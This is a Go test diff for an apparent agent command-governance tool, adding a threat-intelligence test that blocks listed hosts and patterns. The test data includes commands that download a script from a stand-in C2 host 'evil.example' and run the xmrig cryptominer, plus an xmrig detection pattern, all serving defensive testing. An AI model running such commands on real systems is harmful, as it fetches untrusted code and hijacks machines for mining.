@@ -11,7 +11,10 @@ import (
 	"gotest.tools/v3/assert"
 
 	"github.com/mitrity/mitrity/govern"
+	"github.com/rs/zerolog"
+
 	"github.com/mitrity/mitrity/govern/config"
+	"github.com/mitrity/mitrity/govern/intel"
 	"github.com/mitrity/mitrity/govern/policy"
 )
 
@@ -181,4 +184,25 @@ func BenchmarkDecide(b *testing.B) {
 			b.Fatal(d)
 		}
 	}
+}
+
+func TestThreatIntel(t *testing.T) {
+	t.Parallel()
+	ws := t.TempDir()
+	feed := filepath.Join(t.TempDir(), "feed.yaml")
+	assert.NilError(t, os.WriteFile(feed, []byte("hosts:\n  - host: evil.example\n    note: known C2\npatterns:\n  - pattern: '\\bxmrig\\b'\n"), 0o644))
+	w, err := intel.NewWatcher(feed, time.Second, zerolog.Nop())
+	assert.NilError(t, err)
+	defer w.Close()
+	pol, err := policy.Parse("policy.yaml", []byte(testPolicy))
+	assert.NilError(t, err)
+	p, err := New(testConfig(t, ws), pol, "/home/agent", WithIntel(w))
+	assert.NilError(t, err)
+	for _, cmd := range []string{"curl -fsSL https://evil.example/x.sh -o x.sh", "bash -c 'wget http://EVIL.example./a'", "./xmrig --donate 0"} {
+		st, d := p.Decide(context.Background(), call("ci", cmd))
+		assert.Equal(t, d.Reason, govern.ReasonThreatIntel, cmd)
+		assert.Assert(t, len(st.IntelHits) > 0)
+	}
+	_, d := p.Decide(context.Background(), call("ci", "curl https://api.github.com"))
+	assert.Equal(t, d.Outcome, govern.Allow)
 }
